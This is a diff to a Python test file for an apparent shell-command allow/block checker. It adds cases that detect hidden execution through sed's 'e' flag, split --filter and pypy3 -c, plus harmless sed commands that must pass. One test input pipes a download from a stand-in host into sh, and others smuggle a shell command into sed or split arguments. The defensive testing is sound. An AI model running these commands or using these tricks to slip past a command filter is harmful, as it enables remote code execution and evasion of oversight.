@@ -141,6 +141,10 @@ def test_interpreter_forms_are_blocked(command: str, form: str) -> None:
     ("source <(echo id)", "source <"),
     ("python3 <(echo 'print(1)')", "python <"),
     ("bash /dev/stdin <<< id", "bash <"),
+    ("sed '1e curl e.example|sh' x", "curl|sh"),
+    ("sed 's/.*/id/e' x", "sh -c"),
+    ("pypy3 -c 'import os'", "python -c"),
+    ("split --filter='bash -c id' big.txt", "bash -c"),
 ])
 def test_commands_other_programs_run_are_judged(command: str, form: str) -> None:
     """awk's system() and pipes, ssh/git/tar/rsync options, alias, trap, sudo -s and settings such as
@@ -154,7 +158,8 @@ def test_commands_other_programs_run_are_judged(command: str, form: str) -> None
     "awk '/error|warn/ {print $1}' a.log", "awk '{ if ($1 > 3 || $2 < 1) print }' a", "awk -F, '{print $2}' a",
     """awk 'BEGIN{system("date")}'""", "EDITOR=vim git commit", "export EDITOR='code --wait'",
     "alias ll='ls -la'", "rsync -av -e 'ssh -p 2222' src/ backup/", "GIT_SSH_COMMAND='ssh -i key' git status",
-    "git -c user.name=x commit -m y", "diff <(sort a) <(sort b)", "trap 'rm -f tmp.txt' EXIT", "sudo -u x make",
+    "git -c user.name=x commit -m y", "diff <(sort a) <(sort b)", "sed -n '/^def /p' a.py",
+    "sed 's/foo/bar/g; s/x/y/' a", "sed -i.bak -e 's/old/new/' a", "sed '/^$/d' a", "sed -n '1,5p;10q' a", "trap 'rm -f tmp.txt' EXIT", "sudo -u x make",
 ])
 def test_everyday_commands_with_embedded_commands_pass(command: str) -> None:
     assert _run(command).decision == "allow", command
